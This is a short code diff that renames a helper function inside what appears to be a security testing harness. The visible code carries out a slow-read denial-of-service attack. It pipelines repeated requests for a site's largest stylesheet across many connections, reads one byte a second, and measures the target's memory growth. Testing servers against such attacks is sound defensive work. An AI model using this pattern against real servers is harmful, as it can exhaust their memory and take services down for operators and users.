@@ -15,7 +15,7 @@ _MOST_BYTES = 300 * 1024 * 1024  # of memory more than before
 
 def attack(target: Target) -> list[str]:
     """Ask for the office's style sheet sixty times on each connection, and read a byte a second."""
-    path = _style_sheet(target)
+    path = _stylesheet(target)
     asked = f"GET {path} HTTP/1.1\r\nHost: {target.address[0]}:{target.address[1]}\r\n\r\n".encode()
     before = target.memory()
     held = sockets.open_with(target, asked * _ASKED_EACH, count=_COUNT, buffer=4096)
@@ -29,7 +29,7 @@ def attack(target: Target) -> list[str]:
     ]
 
 
-def _style_sheet(target: Target) -> str:
+def _stylesheet(target: Target) -> str:
     """Return the longest, so that an answer is more than the system keeps for a connection."""
     page = httpx.get(f"{target.url}/account/sign-in/", timeout=30).text
     found: list[str] = re.findall(r'href="(/static/[^"]+\.css)"', page)
